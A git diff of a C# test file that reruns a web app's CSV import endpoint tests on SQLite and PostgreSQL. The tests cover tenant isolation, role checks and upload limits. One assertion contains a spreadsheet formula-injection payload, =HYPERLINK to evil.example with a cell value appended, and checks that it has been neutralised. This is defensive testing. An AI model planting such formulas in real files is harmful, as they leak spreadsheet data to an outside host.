@@ -5,12 +5,11 @@ using FunnelInsight.Tests.Support;
 
 namespace FunnelInsight.Tests.Web.Endpoints;
 
-[Collection(AccountsApp.Collection)]
-public sealed class ImportEndpointsTests(AccountsApp app)
+public abstract class ImportEndpointsTests(AccountsApp app)
 {
     private const string NewEvents = "event_time,event_type,session_id\n2024-04-01T09:00:00Z,session_start,n1\n2024-04-01T09:02:00Z,add_to_cart,n1\n";
 
-    [Fact]
+    [ProviderFact]
     public async Task A_member_downloads_their_error_file_uncached_with_the_imported_formula_neutralised()
     {
         using var client = await app.SignedInAsync("analyst");
@@ -24,7 +23,7 @@ public sealed class ImportEndpointsTests(AccountsApp app)
         Assert.EndsWith(",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1),add_to_cart,s1\"", lines[1], StringComparison.Ordinal);
     }
 
-    [Theory]
+    [ProviderTheory]
     [InlineData("stores/{A}/imports/{B}/errors.csv")]
     [InlineData("stores/{B}/imports/{B}/errors.csv")]
     public async Task A_member_of_store_a_gets_404_for_store_bs_error_file_and_none_of_its_rows(string path)
@@ -37,7 +36,7 @@ public sealed class ImportEndpointsTests(AccountsApp app)
         Assert.DoesNotContain("bravo-secret", await response.Content.ReadAsStringAsync(), StringComparison.Ordinal);
     }
 
-    [Fact]
+    [ProviderFact]
     public async Task A_token_of_store_a_gets_a_404_problem_for_store_bs_error_file()
     {
         using var client = app.WithToken("owner");
@@ -48,7 +47,7 @@ public sealed class ImportEndpointsTests(AccountsApp app)
         Assert.DoesNotContain("bravo", problem.GetRawText(), StringComparison.OrdinalIgnoreCase);
     }
 
-    [Theory]
+    [ProviderTheory]
     [InlineData("marketer", HttpStatusCode.Forbidden)]
     [InlineData("analyst", HttpStatusCode.Forbidden)]
     [InlineData("bravo-owner", HttpStatusCode.NotFound)]
@@ -61,7 +60,7 @@ public sealed class ImportEndpointsTests(AccountsApp app)
         Assert.Equal(expected, response.StatusCode);
     }
 
-    [Fact]
+    [ProviderFact]
     public async Task An_owner_uploads_an_export_which_is_imported_and_then_removed_from_disk()
     {
         using var client = app.WithToken("owner");
@@ -75,7 +74,7 @@ public sealed class ImportEndpointsTests(AccountsApp app)
         Assert.Empty(Directory.GetFiles(app.Db.Database.StoreFilesFolder(app.AlphaId)));
     }
 
-    [Fact]
+    [ProviderFact]
     public async Task An_upload_that_is_not_csv_is_refused_with_the_reason()
     {
         using var client = app.WithToken("owner");
@@ -86,7 +85,7 @@ public sealed class ImportEndpointsTests(AccountsApp app)
         Assert.Equal("\"events.csv\" is a ZIP archive or an Excel workbook, not a CSV export. Save it as CSV (comma separated) and upload that.", await DetailAsync(response));
     }
 
-    [Fact]
+    [ProviderFact]
     public async Task An_upload_over_the_size_limit_is_refused_with_413_and_the_limit()
     {
         using var client = app.WithToken("owner");
@@ -97,7 +96,7 @@ public sealed class ImportEndpointsTests(AccountsApp app)
         Assert.StartsWith("The file is larger than the upload limit of 4 KB.", await DetailAsync(response), StringComparison.Ordinal);
     }
 
-    [Fact]
+    [ProviderFact]
     public async Task An_oversized_upload_sent_chunked_without_a_length_gets_the_same_413_and_message_as_a_sized_one()
     {
         var content = NewEvents + new string('x', 5 * (int)AccountsApp.MaxUploadBytes);
@@ -119,7 +118,7 @@ public sealed class ImportEndpointsTests(AccountsApp app)
         Assert.False(Directory.Exists(uploads) && Directory.GetFiles(uploads).Length > 0, "the partial upload is removed");
     }
 
-    [Fact]
+    [ProviderFact]
     public async Task An_anonymous_upload_gets_401()
     {
         using var client = app.App.Client();
@@ -146,3 +145,11 @@ public sealed class ImportEndpointsTests(AccountsApp app)
             .Replace("stores/{B}", $"stores/{app.BravoId}", StringComparison.Ordinal)
             .Replace("imports/{B}", $"imports/{app.BravoImportId}", StringComparison.Ordinal);
 }
+
+/// <summary>The tests of <see cref="ImportEndpointsTests"/> on SQLite.</summary>
+[Collection(AccountsApp.Collection)]
+public sealed class ImportEndpointsTestsOnSqlite(AccountsApp app) : ImportEndpointsTests(app);
+
+/// <summary>The tests of <see cref="ImportEndpointsTests"/> on PostgreSQL.</summary>
+[Collection(PostgresAccountsApp.Collection)]
+public sealed class ImportEndpointsTestsOnPostgres(PostgresAccountsApp app) : ImportEndpointsTests(app), IRunsOnPostgres;
